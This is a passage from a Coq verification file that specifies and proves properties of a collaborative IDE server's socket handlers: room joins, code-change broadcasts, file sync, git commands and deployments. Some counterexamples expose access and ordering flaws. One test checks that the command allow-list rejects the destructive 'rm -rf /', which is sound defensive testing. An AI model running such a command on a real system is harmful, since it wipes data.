  exec_server (IDEBridgeMore.register_ide Fixture.jwt_verify (fresh_socket "s-eve")
                 eve_registers)
    (exec_server (IDEBridgeMore.register_ide Fixture.jwt_verify (fresh_socket "s-eve")
                    eve_registers)
       (server_of Fixture.world)).

(** The force-sync event sent to the socket of a connection. *)
Definition force_sync_to (w : World) (c : IDEConnection) : Posted :=
  {| po_from := None; po_target := ToRoom (ic_socketId c);
     po_recipients := subscribers (adapter w) (ic_socketId c);
     po_notice := NoForceSync (clock w) |}.

(** A result of sync-files answers the incoming file: it carries its
    path, one of the four statuses, and an error message exactly when
    the status is error. *)
Definition answers (file : IDEBridge.IncomingFile) (r : SyncResult) : bool :=
  String.eqb (sr_path r) (IDEBridge.relativePath file) &&
  match sr_error r with
  | Some _ => String.eqb (sr_status r) "error"
  | None => existsb (String.eqb (sr_status r)) ["updated"; "skipped"; "created"]
  end.

(** A batch of two files, the store failing on the first. *)
Definition two_files : IDEBridge.SyncData :=
  {| IDEBridge.sy_roomId := "r1"; IDEBridge.sy_projectId := "p1";
     IDEBridge.sy_files :=
       [ {| IDEBridge.relativePath := "a.txt"; IDEBridge.content := "v1";
            IDEBridge.lastModified := 60 |};
         {| IDEBridge.relativePath := "b.txt"; IDEBridge.content := "w";
            IDEBridge.lastModified := 70 |} ] |}.

Definition store_fails_once : World :=
  WorldOps.set_oracle [Fine "" ""; Fault "" "" "deadlock"] Fixture.world.

(** The payload of execute-command with something appended to the
    command. *)
Definition with_suffix (data : IDEBridge.CommandData) (suffix : string)
    : IDEBridge.CommandData :=
  {| IDEBridge.cm_roomId := IDEBridge.cm_roomId data;
     IDEBridge.cm_projectId := IDEBridge.cm_projectId data;
     IDEBridge.cm_command := IDEBridge.cm_command data +:+ suffix;
     IDEBridge.cm_workingDirectory := IDEBridge.cm_workingDirectory data |}.

(** The row that git-operation stores for a command that succeeded. *)
Definition git_row (socket : IDESocket) (data : IDEBridge.GitData) (command stdout : string)
    : GitOperation :=
  {| go_userId := default "" (userId socket);
     go_projectId := IDEBridge.g_projectId data;
     go_operation := IDEBridge.g_operation data;
     go_command := command; go_result := stdout; go_success := true |}.

(** The first output of the next awaited call when it goes through. *)
Definition next_stdout (w : World) : string :=
  match oracle w with
  | Fine so _ :: _ => so
  | _ => ""
  end.

Definition next_stderr (w : World) : string :=
  match oracle w with
  | Fine _ se :: _ => se
  | _ => ""
  end.

Definition git_rebase : IDEBridge.GitData :=
  {| IDEBridge.g_roomId := "r1"; IDEBridge.g_projectId := "p1";
     IDEBridge.g_operation := "rebase"; IDEBridge.g_params := None |}.

(** The command goes through and the store fails on the audit row. *)
Definition audit_fails : World :=
  WorldOps.set_oracle [Fine " M a.txt" ""; Fault "" "" "deadlock"] Fixture.world.

(** The reply of get-deployment-status for a deployment of the table. *)
Definition status_reply (socket : string) (d : DeploymentStatus) : Posted :=
  {| po_from := Some socket; po_target := ToSender; po_recipients := {[ socket ]};
     po_notice := NoDeploymentStatus d |}.

(** Three days later. *)
Definition three_days_on (w : World) : World :=
  WorldOps.set_clock (clock w + 3 * 24 * 60 * 60 * 1000)%Z w.

(** The deployment as start-deployment enters it in the table. *)
Definition entered (w : World) : DeploymentStatus :=
  {| dep_id := next_uuid w; dep_status := pending; dep_progress := 0;
     dep_logs := []; dep_url := None; dep_error := None;
     dep_startTime := clock w; dep_endTime := None |}.

(** The store goes down when the row of the deployment is created. *)
Definition create_fails : World :=
  WorldOps.set_oracle [Fine "" ""; Fine "" ""; Fault "" "" "store down"] Fixture.world.

(** Ann asks for a deployment of p1 and names the room r2. *)
Definition ann_names_r2 : Deployment.StartData :=
  {| Deployment.sd_token := "tok-ann"; Deployment.sd_roomId := "r2";
     Deployment.sd_projectId := "p1"; Deployment.sd_config := Fixture.config |}.

(** The deployment object once the catch block of processDeployment
    has gone over it. *)
Definition failed_with (message : string) (now : Z) (d : DeploymentStatus)
    : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := failed; dep_progress := dep_progress d;
     dep_logs := dep_logs d ++ ["[ERROR] " +:+ message]; dep_url := dep_url d;
     dep_error := Some message; dep_startTime := dep_startTime d;
     dep_endTime := Some now |}.

(** The write of the Dockerfile goes through. *)
Definition dockerfile_written (w : World) : bool :=
  match oracle w with
  | Fault _ _ _ :: Fault _ _ _ :: _ => false
  | _ => true
  end.

Definition with_provider (p : Provider) (ctx : Deployment.Ctx) : Deployment.Ctx :=
  {| Deployment.c_deploymentId := Deployment.c_deploymentId ctx;
     Deployment.c_project := Deployment.c_project ctx;
     Deployment.c_files := Deployment.c_files ctx;
     Deployment.c_room := Deployment.c_room ctx;
     Deployment.c_config :=
       {| provider := p;
          buildCommand := buildCommand (Deployment.c_config ctx);
          outputDirectory := outputDirectory (Deployment.c_config ctx);
          environmentVariables := environmentVariables (Deployment.c_config ctx);
          domain := domain (Deployment.c_config ctx);
          framework := framework (Deployment.c_config ctx);
          nodeVersion := nodeVersion (Deployment.c_config ctx) |};
     Deployment.c_user := Deployment.c_user ctx;
     Deployment.c_roomId := Deployment.c_roomId ctx |}.

(** The address deployToGitHubPages returns. *)
Definition pages_url (r : Room) (p : Project) : string :=
  "https://" +:+ room_name r +:+ ".github.io/" +:+ project_name p.

(** The message of the default branch of the switch over the provider. *)
Definition not_implemented (p : Provider) : string :=
  "Deployment provider " +:+ Deployment.provider_name p +:+ " not yet implemented".

Definition with_build (command : string) (ctx : Deployment.Ctx) : Deployment.Ctx :=
  {| Deployment.c_deploymentId := Deployment.c_deploymentId ctx;
     Deployment.c_project := Deployment.c_project ctx;
     Deployment.c_files := Deployment.c_files ctx;
     Deployment.c_room := Deployment.c_room ctx;
     Deployment.c_config :=
       {| provider := provider (Deployment.c_config ctx);
          buildCommand := Some command;
          outputDirectory := outputDirectory (Deployment.c_config ctx);
          environmentVariables := environmentVariables (Deployment.c_config ctx);
          domain := domain (Deployment.c_config ctx);
          framework := framework (Deployment.c_config ctx);
          nodeVersion := nodeVersion (Deployment.c_config ctx) |};
     Deployment.c_user := Deployment.c_user ctx;
     Deployment.c_roomId := Deployment.c_roomId ctx |}.

(** No white space character begins at any place of the list. *)
Fixpoint spaceless (l : list ascii) : bool :=
  match l with
  | [] => true
  | _ :: r => negb (Deployment.space_ahead l) && spaceless r
  end.

(** A string without white space. *)
Definition no_space (s : string) : bool := spaceless (list_ascii_of_string s).

(** What start-deployment hands to processDeployment. *)
Definition started_ctx (data : Deployment.StartData) (u : User) (p : Project)
    (files : list ProjectFile) (room : option Room) (w : World) : Deployment.Ctx :=
  {| Deployment.c_deploymentId := next_uuid w; Deployment.c_project := p;
     Deployment.c_files := files; Deployment.c_room := room;
     Deployment.c_config := Deployment.sd_config data; Deployment.c_user := u;
     Deployment.c_roomId := Deployment.sd_roomId data |}.

(** The row start-deployment stores. *)
Definition pending_row (data : Deployment.StartData) (u : User) (p : Project) (w : World)
    : DeploymentRow :=
  {| dr_id := next_uuid w; dr_projectId := project_id p; dr_userId := user_id u;
     dr_provider := Deployment.provider_upper (provider (Deployment.sd_config data));
     dr_status := "PENDING"; dr_url := None; dr_config := Deployment.sd_config data;
     dr_logs := []; dr_error := None; dr_endedAt := None |}.

(** Bob adds a file to p1. *)
Definition bob_creates : CollaborationMore.FileCreatedData :=
  {| CollaborationMore.fc_roomId := "r1"; CollaborationMore.fc_projectId := "p1";
     CollaborationMore.fc_file :=
       {| CollaborationMore.nf_name := "b.ts"; CollaborationMore.nf_path := "src/b.ts";
          CollaborationMore.nf_content := "export {}";
          CollaborationMore.nf_language := Some "typescript" |} |}.

(** Bob asks for the status and names a project that is not in the
    store. *)
Definition git_status_nowhere : IDEBridge.GitData :=
  {| IDEBridge.g_roomId := "r1"; IDEBridge.g_projectId := "p9";
     IDEBridge.g_operation := "status"; IDEBridge.g_params := None |}.

(** The command line tool of Vercel is installed, vercel.json is there,
    and the deploy command prints the address. *)
Definition vercel_answers : World :=
  WorldOps.set_oracle
    [Fine "33.0.1" ""; Fine "" ""; Fine "Production: https://site-abc.vercel.app [2s]" ""]
    Fixture.world.

(** ** Proof tools *)

Lemma drop_length_app {A} (l k : list A) : drop (length l) (l ++ k) = k.
Proof. induction l; simpl; auto. Qed.

Lemma drop_length_self {A} (l : list A) : drop (length l) l = [].
Proof. induction l; simpl; auto. Qed.

(** Running a handler on a world given by its fields: the monad, the
    primitive effects and the field accesses are computed away; the store
    operations, the string functions and the maps stay folded. *)
Ltac mred :=
  cbv beta iota zeta delta
    [exec_world eval_world emitted logged bind ret throw try_catch prisma query
     await_ext execAsync new_Date randomUUID generated_id console_error emit socket_emit socket_to
     nsp_to socket_join set_db set_adapter set_activeDeployments set_ideConnections
     set_outbox set_console set_clock set_oracle set_uuids set_spawned set_statusWrites
     db adapter activeDeployments ideConnections outbox console clock oracle uuids
     spawned statusWrites fst snd plain_error err_message err_stdout err_stderr
     negb orb].

Ltac mred_in H :=
  cbv beta iota zeta delta
    [exec_world eval_world emitted logged bind ret throw try_catch prisma query
     await_ext execAsync new_Date randomUUID generated_id console_error emit socket_emit socket_to
     nsp_to socket_join set_db set_adapter set_activeDeployments set_ideConnections
     set_outbox set_console set_clock set_oracle set_uuids set_spawned set_statusWrites
     db adapter activeDeployments ideConnections outbox console clock oracle uuids
     spawned statusWrites fst snd plain_error err_message err_stdout err_stderr
     negb orb] in H.

Ltac tidy :=
  repeat rewrite <- app_assoc;
  rewrite ?drop_length_self, ?drop_length_app; cbn [app].

Lemma members_some_spec d roomId uid :
  Store.members_some d roomId uid = true <->
  exists m, In m (db_members d) /\ member_roomId m = roomId /\ member_userId m = uid.
Proof.
  unfold Store.members_some. rewrite existsb_exists. split.
  - intros (m & Hin & H). apply andb_true_iff in H as [H1 H2].
    apply String.eqb_eq in H1, H2. eauto.
  - intros (m & Hin & H1 & H2). exists m. split; [done|].
    apply andb_true_iff. split; apply String.eqb_eq; done.
Qed.

Lemma not_elem_computed (x : string) (X : gset string) :
  bool_decide (x ∈ X) = false -> x ∉ X.
Proof. apply bool_decide_eq_false_1. Qed.

Lemma elem_computed (x : string) (X : gset string) :
  x ∈ X -> bool_decide (x ∈ X) = true.
Proof. apply bool_decide_eq_true_2. Qed.

(** ** collaboration.ts: join-room, code-change, cursor-update *)

Module CollaborationSpec.
Import Collaboration CollaborationClaims.

(** The room query of join-room finds a room exactly when the caller
    owns the room or is listed among its members. *)
Lemma room_findFirst_spec d roomId uid :
  is_Some (Store.room_findFirst roomId uid d) <-> owns_or_belongs d roomId uid.
Proof.
  unfold Store.room_findFirst, owns_or_belongs. split.
  - intros [r Hr]. apply find_some in Hr as [Hin H].
    apply andb_true_iff in H as [H1 H2]. apply String.eqb_eq in H1.
    exists r. split; [done|]. split; [done|].
    unfold Store.owner_or_member in H2. apply orb_true_iff in H2 as [H2|H2].
    + left. by apply String.eqb_eq.
    + right. apply members_some_spec in H2. by rewrite H1 in H2.
  - intros (r & Hin & Hid & H).
    destruct (find _ (db_rooms d)) eqn:E; [eauto|].
    exfalso. apply (find_none _ _ E) in Hin.
    apply andb_false_iff in Hin as [Hf|Hf].
    + apply String.eqb_neq in Hf. done.
    + unfold Store.owner_or_member in Hf. apply orb_false_iff in Hf as [Hf1 Hf2].
      destruct H as [H|H].
      * apply String.eqb_neq in Hf1. done.
      * rewrite Hid in Hf2. apply members_some_spec in H. congruence.
Qed.

Lemma join_room_granted socket roomId w r :
  next_fault w = None ->
  Store.room_findFirst roomId (a_userId socket) (db w) = Some r ->
  adapter (exec_world (join_room socket roomId) w) =
    <[ roomId := {[ a_sid socket ]} ∪ subscribers (adapter w) roomId ]> (adapter w).
Proof.
  unfold next_fault. intros Hf Hr.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hr.
  unfold join_room.
  destruct o as [|[so se|so se m'] o]; try discriminate; mred; rewrite Hr; reflexivity.
Qed.

Lemma join_room_refused socket roomId w :
  Store.room_findFirst roomId (a_userId socket) (db w) = None ->
  adapter (exec_world (join_room socket roomId) w) = adapter w /\
  (next_fault w = None -> emitted (join_room socket roomId) w = [access_denied socket]).
Proof.
  unfold next_fault. intros Hr.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hr.
  unfold join_room.
  destruct o as [|[so se|so se m'] o]; mred; rewrite ?Hr; tidy; split; try done.
Qed.

(** C4, as amended: after a join-room attempt, the room query going
    through, the connection is in the channel of the room if and only if
    the caller owns the room or is a listed member of it, or the
    connection was in the channel already; that the room is public gives
    no access.  A request of an owner or member adds the connection to
    the channel and changes nothing else.  A request of a caller who is
    neither adds nothing: the channels are left exactly as they were, so
    that a connection that was not in the channel is not in it
    afterwards, and the one message is the access-denied error, sent to
    the requester alone. *)
Theorem join_room_owner_or_member socket roomId w :
  let w' := exec_world (join_room socket roomId) w in
  (next_fault w = None ->
     (subscribed w' (a_sid socket) roomId <->
      owns_or_belongs (db w) roomId (a_userId socket) \/
      subscribed w (a_sid socket) roomId) /\
     (owns_or_belongs (db w) roomId (a_userId socket) ->
      adapter w' =
        <[ roomId := {[ a_sid socket ]} ∪ subscribers (adapter w) roomId ]> (adapter w))) /\
  (~ owns_or_belongs (db w) roomId (a_userId socket) ->
     adapter w' = adapter w /\
     (~ subscribed w (a_sid socket) roomId -> ~ subscribed w' (a_sid socket) roomId) /\
     (next_fault w = None ->
        emitted (join_room socket roomId) w = [access_denied socket])).
Proof.
  intros w'. subst w'. split.
  - intros Hf. rewrite <- room_findFirst_spec.
    destruct (Store.room_findFirst roomId (a_userId socket) (db w)) as [r|] eqn:E.
    + pose proof (join_room_granted socket roomId w r Hf E) as Ha. split.
      * split; [intros _; left; eauto|]. intros _. unfold subscribed. rewrite Ha.
        unfold subscribers at 1. rewrite lookup_insert_eq. simpl. set_solver.
      * intros _. exact Ha.
    + destruct (join_room_refused socket roomId w E) as [Ha _]. split.
      * unfold subscribed. rewrite Ha. split; [by right|].
        intros [[r Hr]|Hs]; [discriminate Hr|exact Hs].
      * intros [r Hr]. discriminate Hr.
  - intros Hno. rewrite <- room_findFirst_spec in Hno.
    destruct (Store.room_findFirst _ _ _) eqn:E; [exfalso; eauto|].
    destruct (join_room_refused socket roomId w E) as [Ha He].
    unfold subscribed in *. rewrite Ha. done.
Qed.

Lemma ann_owns_r1 : owns_or_belongs (db Fixture.world) "r1" "ann".
Proof.
  exists {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
            room_isPublic := true |}.
  split; [left; reflexivity|]. split; [reflexivity|]. left. reflexivity.
Qed.

Lemma eve_stranger_to_r1 : ~ owns_or_belongs (db Fixture.world) "r1" "eve".
Proof.
  rewrite <- room_findFirst_spec. vm_compute. intros [r Hr]. discriminate.
Qed.

(** Ann, who owns r1, joins it; Eve, a stranger to r1, is refused and
    is not in its channel. *)
Lemma join_room_owner_or_member_witness :
  subscribed (exec_world (join_room (Fixture.socket_of Fixture.ann) "r1") Fixture.world)
             "s-ann" "r1" /\
  ~ subscribed (exec_world (join_room (Fixture.socket_of Fixture.eve) "r1") Fixture.world)
               "s-eve" "r1" /\
  emitted (join_room (Fixture.socket_of Fixture.eve) "r1") Fixture.world =
    [access_denied (Fixture.socket_of Fixture.eve)].
Proof.
  destruct (join_room_owner_or_member (Fixture.socket_of Fixture.ann) "r1" Fixture.world)
    as [Hann _].
  destruct (join_room_owner_or_member (Fixture.socket_of Fixture.eve) "r1" Fixture.world)
    as [_ Heve].
  destruct (Hann eq_refl) as [Hiff _].
  destruct (Heve eve_stranger_to_r1) as (_ & Hn & He).
  split; [|split].
  - apply Hiff. left. exact ann_owns_r1.
  - apply Hn. unfold subscribed. apply not_elem_computed. vm_compute. reflexivity.
  - apply He. reflexivity.
Defined.

(** C4 as stated fails: r1 is public, Eve neither owns it nor belongs
    to it, and her join-room does not subscribe her. *)
Lemma join_room_public_counterexample :
  ~ join_claim (Fixture.socket_of Fixture.eve) "r1" Fixture.world.
Proof.
  intros [[_ H] _].
  assert (Hp : is_public (db Fixture.world) "r1").
  { exists {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
              room_isPublic := true |}.
    split; [left; reflexivity|]. split; reflexivity. }
  specialize (H (or_intror Hp)).
  unfold subscribed in H. apply elem_computed in H. vm_compute in H. discriminate.
Qed.

(** *** code-change *)

Lemma found_file_exists fileId uid d file :
  Store.projectFile_findFirst fileId uid d = Some file ->
  existsb (fun f => String.eqb (file_id f) fileId) (db_files d) = true.
Proof.
  unfold Store.projectFile_findFirst. intros H. apply find_some in H as [Hin H].
  apply andb_true_iff in H as [H _]. apply existsb_exists. eauto.
Qed.

Lemma projectFile_update_found id content now d :
  existsb (fun f => String.eqb (file_id f) id) (db_files d) = true ->
  Store.projectFile_update id content now d =
    (Ok tt,
     Store.set_files (map (fun f => if String.eqb (file_id f) id
                                    then Store.write_content content now f else f)) d).
Proof. unfold Store.projectFile_update. by intros ->. Qed.

(** C10: an accepted code-change (the file is found through a room the
    caller owns or belongs to, and the store calls go through) is
    broadcast to the subscribers of the room named in the payload, the
    sender left out, whatever room that is; the room named plays no part
    in the access check nor in what is written to the store. *)
Theorem code_change_broadcast_room socket data w file :
  calls_fine 2 (oracle w) = true ->
  Store.projectFile_findFirst (cc_fileId data) (a_userId socket) (db w) = Some file ->
  emitted (code_change socket data) w =
    [ {| em_from := Some (a_sid socket);
         em_target := ToRoomOthers (cc_roomId data);
         em_recipients := subscribers (adapter w) (cc_roomId data) ∖ {[ a_sid socket ]};
         em_event := EvCodeChange (cc_fileId data) (cc_content data) (cc_changes data)
                       (a_user socket) (clock w) |} ] /\
  (forall roomId,
     db (exec_world (code_change socket (with_room roomId data)) w) =
     db (exec_world (code_change socket data) w)).
Proof.
  intros Hf Hfile. pose proof (found_file_exists _ _ _ _ Hfile) as Hex.
  destruct w as [d ad act ide ob co cl o us sp sw].
  mred_in Hf. mred_in Hfile. mred_in Hex.
  unfold code_change, with_room.
  cbn [cc_roomId cc_fileId cc_content cc_changes].
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
    mred; rewrite Hfile; mred;
    rewrite (projectFile_update_found _ _ _ _ Hex); mred; tidy; split; reflexivity.
Qed.

(** Bob, a member of r1, changes f1 and names r2, the room of Eve:
    the change reaches Eve's socket. *)
Lemma code_change_broadcast_room_witness :
  em_recipients <$>
    emitted (code_change (Fixture.socket_of Fixture.bob)
               {| cc_roomId := "r2"; cc_fileId := "f1"; cc_content := "v1";
                  cc_changes := [] |}) Fixture.world
  = [ {[ "s-eve" ]} ].
Proof.
  destruct (code_change_broadcast_room (Fixture.socket_of Fixture.bob)
              {| cc_roomId := "r2"; cc_fileId := "f1"; cc_content := "v1";
                 cc_changes := [] |} Fixture.world
              {| file_id := "f1"; file_name := "a.txt"; file_path := "a.txt";
                 file_content := "v0"; file_language := "text";
                 file_projectId := "p1"; file_updatedAt := 50 |}
              eq_refl eq_refl) as [-> _].
  vm_compute. reflexivity.
Defined.

(** *** cursor-update *)

(** C3, as amended: when persisting the cursor row fails, the failure
    is logged and nothing is emitted, neither an error to the sender nor
    the broadcast to the room; the broadcast is made when the row was
    persisted. *)
Theorem cursor_update_broadcast_after_persist socket data w :
  (forall m, next_fault w = Some m ->
     logged (cursor_update socket data) w = ["Cursor update error: " +:+ m] /\
     emitted (cursor_update socket data) w = [] /\
     db (exec_world (cursor_update socket data) w) = db w) /\
  (next_fault w = None ->
     logged (cursor_update socket data) w = [] /\
     emitted (cursor_update socket data) w = [cursor_broadcast socket data w]).
Proof.
  unfold next_fault, cursor_broadcast.
  destruct w as [d ad act ide ob co cl o us sp sw]. unfold cursor_update.
  split.
  - intros m H. mred_in H.
    destruct o as [|[so se|so se m'] o]; try discriminate.
    injection H as ->. mred. tidy. auto.
  - intros H. mred_in H.
    destruct o as [|[so se|so se m'] o]; try discriminate;
      mred; unfold Store.cursor_upsert;
      destruct (existsb _ (db_cursors d)); mred; tidy; auto.
Qed.

(** The store is down: Ann's cursor-update emits nothing; it is up: the
    update reaches Bob. *)
Lemma cursor_update_broadcast_after_persist_witness :
  emitted (cursor_update (Fixture.socket_of Fixture.ann) a_cursor)
          (Fixture.faulty "store down") = [] /\
  em_recipients <$>
    emitted (cursor_update (Fixture.socket_of Fixture.ann) a_cursor) Fixture.world
  = [ {[ "s-bob" ]} ].
Proof.
  split.
  - destruct (cursor_update_broadcast_after_persist (Fixture.socket_of Fixture.ann)
                a_cursor (Fixture.faulty "store down")) as [H _].
    destruct (H "store down" eq_refl) as (_ & He & _). exact He.
  - destruct (cursor_update_broadcast_after_persist (Fixture.socket_of Fixture.ann)
                a_cursor Fixture.world) as [_ H].
    destruct (H eq_refl) as (_ & ->). vm_compute. reflexivity.
Defined.

(** C3 as stated fails: with the store down, no broadcast of Ann's
    cursor-update is made. *)
Lemma cursor_update_counterexample :
  ~ cursor_claim (Fixture.socket_of Fixture.ann) a_cursor (Fixture.faulty "store down").
Proof.
  intros H. destruct (H "store down" eq_refl) as (_ & _ & Hb).
  vm_compute in Hb. discriminate.
Qed.

End CollaborationSpec.

(** ** The IDE bridge: sync-files, pull-files, execute-command, git-operation *)

Module BridgeSpec.
Import IDEBridge BridgeClaims.

(** *** The helpers, on concrete inputs *)

Example basename_of_path : Path.basename "src/app/main.TS" = "main.TS".
Proof. reflexivity. Qed.

Example language_of_path : getLanguageFromExtension "src/app/main.TS" = "typescript".
Proof. reflexivity. Qed.

Example language_without_extension : getLanguageFromExtension "Makefile" = "text".
Proof. reflexivity. Qed.

Example rm_rf_not_allowed : allowed "rm -rf /" = false.
Proof. reflexivity. Qed.

Example npm_run_build_allowed : allowed "npm run build -- --watch" = true.
Proof. reflexivity. Qed.

Example git_add_files :
  git_command "add"
    (Some {| gp_files := Some ["a.ts"; "b.ts"]; gp_message := None; gp_remote := None;
             gp_branch := None |})
  = Some "git add a.ts b.ts".
Proof. reflexivity. Qed.

Example git_push_defaults : git_command "push" None = Some "git push origin main".
Proof. reflexivity. Qed.

Example git_unknown_operation : git_command "rebase" None = None.
Proof. reflexivity. Qed.

(** *** sync-files *)

Lemma find_map_stable {A} (p : A -> bool) (g : A -> A) (l : list A) :
  (forall x, p (g x) = p x) -> find p (map g l) = g <$> find p l.
Proof.
  intros Hp. induction l as [|x l IH]; simpl; [done|].
  rewrite Hp. destruct (p x); [done|]. apply IH.
Qed.

Lemma find_app_last {A} (p : A -> bool) (l : list A) (x : A) :
  find p l = None -> p x = true -> find p (l ++ [x]) = Some x.
Proof.
  intros Hn Hx. induction l as [|y l IH]; simpl in *.
  - by rewrite Hx.
  - destruct (p y); [discriminate|]. by apply IH.
Qed.

Lemma findByPath_exists projectId path d existing :
  Store.projectFile_findByPath projectId path d = Some existing ->
  existsb (fun f => String.eqb (file_id f) (file_id existing)) (db_files d) = true.
Proof.
  unfold Store.projectFile_findByPath. intros H. apply find_some in H as [Hin _].
  apply existsb_exists. exists existing. split; [done|]. apply String.eqb_refl.
Qed.

(** The row that the path query finds is the row that the update by
    its id rewrites, and the query finds it again afterwards. *)
Lemma findByPath_after_update projectId path d existing c now :
  Store.projectFile_findByPath projectId path d = Some existing ->
  Store.projectFile_findByPath projectId path
    (Store.set_files (map (fun f => if String.eqb (file_id f) (file_id existing)
                                    then Store.write_content c now f else f)) d)
  = Some (Store.write_content c now existing).
Proof.
  unfold Store.projectFile_findByPath, Store.set_files. simpl. intros H.
  rewrite find_map_stable.
  - rewrite H. simpl. by rewrite String.eqb_refl.
  - intros f. by destruct (String.eqb (file_id f) (file_id existing)).
Qed.

Lemma findByPath_after_create projectId path d f :
  Store.projectFile_findByPath projectId path d = None ->
  file_projectId f = projectId -> file_path f = path ->
  Store.projectFile_findByPath projectId path (Store.set_files (fun l => l ++ [f]) d)
  = Some f.
Proof.
  unfold Store.projectFile_findByPath, Store.set_files. simpl. intros H <- <-.
  apply find_app_last; [done|]. by rewrite !String.eqb_refl.
Qed.

(** One turn of the loop, the two store calls going through. *)
Lemma sync_file_step projectId file w :
  calls_fine 2 (oracle w) = true ->
  let r := eval_world (sync_file projectId file) w in
  let d' := db (exec_world (sync_file projectId file) w) in
  match Store.projectFile_findByPath projectId (relativePath file) (db w) with
  | Some existing =>
      if (file_updatedAt existing <? lastModified file)%Z
      then r = Ok (result (relativePath file) "updated" None None) /\
           d' = Store.set_files
                  (map (fun f => if String.eqb (file_id f) (file_id existing)
                                 then Store.write_content (content file) (clock w) f
                                 else f)) (db w)
      else r = Ok (result (relativePath file) "skipped" None None) /\ d' = db w
  | None =>
      r = Ok (result (relativePath file) "created"
                (Some (file_id (created_file projectId file w))) None) /\
      d' = Store.set_files (fun l => l ++ [created_file projectId file w]) (db w)
  end.
Proof.
  intros Hf.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf.
  unfold sync_file, created_file. mred.
  destruct (Store.projectFile_findByPath projectId (relativePath file) d)
    as [existing|] eqn:E.
  - pose proof (findByPath_exists _ _ _ _ E) as Hex.
    destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
      mred; rewrite ?E; mred;
      destruct (file_updatedAt existing <? lastModified file)%Z;
      mred; unfold Store.projectFile_update; rewrite ?Hex; mred;
      split; reflexivity.
  - destruct us as [|u us];
      destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
      mred; rewrite ?E; mred; split; reflexivity.
Qed.

(** A turn of the loop never throws: a failure becomes the result of
    the file. *)
Lemma sync_file_total projectId file w :
  exists r, eval_world (sync_file projectId file) w = Ok r /\
            sr_path r = relativePath file.
Proof.
  destruct w as [d ad act ide ob co cl o us sp sw].
  unfold sync_file, Store.projectFile_update. mred.
  destruct o as [|[so se|so se m] o]; mred;
    try (eexists; split; reflexivity);
    (destruct (Store.projectFile_findByPath projectId (relativePath file) d) as [ex|];
     [ destruct (file_updatedAt ex <? lastModified file)%Z; mred;
       try (eexists; split; reflexivity);
       try destruct o as [|[so' se'|so' se' m'] o]; mred;
       try (eexists; split; reflexivity);
       destruct (existsb (fun f => String.eqb (file_id f) (file_id ex)) (db_files d));
       mred; eexists; split; reflexivity
     | destruct us; try destruct o as [|[so' se'|so' se' m'] o]; mred;
       eexists; split; reflexivity ]).
Qed.

Lemma sync_loop_cons projectId file rest w :
  sync_loop projectId (file :: rest) w =
    match sync_file projectId file w with
    | (Ok r, w1) =>
        match sync_loop projectId rest w1 with
        | (Ok rs, w2) => (Ok (r :: rs), w2)
        | (Throw e, w2) => (Throw e, w2)
        end
    | (Throw e, w1) => (Throw e, w1)
    end.
Proof.
  cbn [sync_loop]. unfold bind, ret.
  destruct (sync_file projectId file w) as [[r|e] w1]; [|done].
  by destruct (sync_loop projectId rest w1) as [[rs|e] w2].
Qed.

(** The loop never throws and gives one result for each file. *)
Lemma sync_loop_total projectId files w :
  exists rs, sync_loop projectId files w = (Ok rs, reached projectId files w) /\
             length rs = length files.
Proof.
  unfold reached, exec_world. revert w.
  induction files as [|file rest IH]; intros w.
  - exists []. done.
  - rewrite sync_loop_cons.
    destruct (sync_file_total projectId file w) as (r & Hr & _).
    unfold eval_world in Hr.
    destruct (sync_file projectId file w) as [r' w1]. simpl in Hr. subst r'.
    destruct (IH w1) as (rs & Hrs & Hlen). rewrite Hrs. simpl.
    exists (r :: rs). split; [done|]. simpl. by rewrite Hlen.
Qed.

(** The result at the place of a file in the batch is the result of its
    turn of the loop, run on the world the loop reached it in. *)
Lemma sync_loop_nth projectId before file rest w :
  exists r rs,
    eval_world (sync_loop projectId (before ++ file :: rest)) w = Ok rs /\
    rs !! length before = Some r /\
    eval_world (sync_file projectId file) (reached projectId before w) = Ok r.
Proof.
  unfold reached, exec_world, eval_world. revert w.
  induction before as [|b before IH]; intros w.
  - simpl app. rewrite sync_loop_cons.
    destruct (sync_file_total projectId file w) as (r & Hr & _).
    unfold eval_world in Hr. simpl.
    destruct (sync_file projectId file w) as [r' w1]. simpl in Hr. subst r'.
    destruct (sync_loop_total projectId rest w1) as (rs & Hrs & _). rewrite Hrs.
    exists r, (r :: rs). done.
  - simpl app. rewrite !sync_loop_cons.
    destruct (sync_file_total projectId b w) as (rb & Hr & _).
    unfold eval_world in Hr.
    destruct (sync_file projectId b w) as [r' w1]. simpl in Hr. subst r'.
    destruct (IH w1) as (r & rs & H1 & H2 & H3).
    destruct (sync_loop_total projectId before w1) as (rs1 & Hrs1 & _).
    rewrite Hrs1. simpl.
    destruct (sync_loop projectId (before ++ file :: rest) w1) as [[rs'|e] w2];
      simpl in H1; [|discriminate].
    injection H1 as ->. simpl. exists r, (rb :: rs). split; [done|]. split; [done|].
    unfold reached, exec_world in *. by rewrite Hrs1 in H3.
Qed.

Lemma sync_file_frame projectId file w :
  outbox (exec_world (sync_file projectId file) w) = outbox w /\
  clock (exec_world (sync_file projectId file) w) = clock w.
Proof.
  destruct w as [d ad act ide ob co cl o us sp sw].
  unfold sync_file, Store.projectFile_update. mred.
  destruct o as [|[so se|so se m] o]; mred; try (split; reflexivity);
    (destruct (Store.projectFile_findByPath projectId (relativePath file) d) as [ex|];
     [ destruct (file_updatedAt ex <? lastModified file)%Z; mred;
       try (split; reflexivity);
       try destruct o as [|[so' se'|so' se' m'] o]; mred;
       try (split; reflexivity);
       destruct (existsb (fun f => String.eqb (file_id f) (file_id ex)) (db_files d));
       mred; split; reflexivity
     | destruct us; try destruct o as [|[so' se'|so' se' m'] o]; mred;
       split; reflexivity ]).
Qed.

(** The loop emits nothing and takes no time of the clock. *)
Lemma sync_loop_frame projectId files w :
  outbox (reached projectId files w) = outbox w /\
  clock (reached projectId files w) = clock w.
Proof.
  unfold reached, exec_world. revert w.
  induction files as [|file rest IH]; intros w; [done|].
  rewrite sync_loop_cons.
  destruct (sync_file_total projectId file w) as (r & Hr & _).
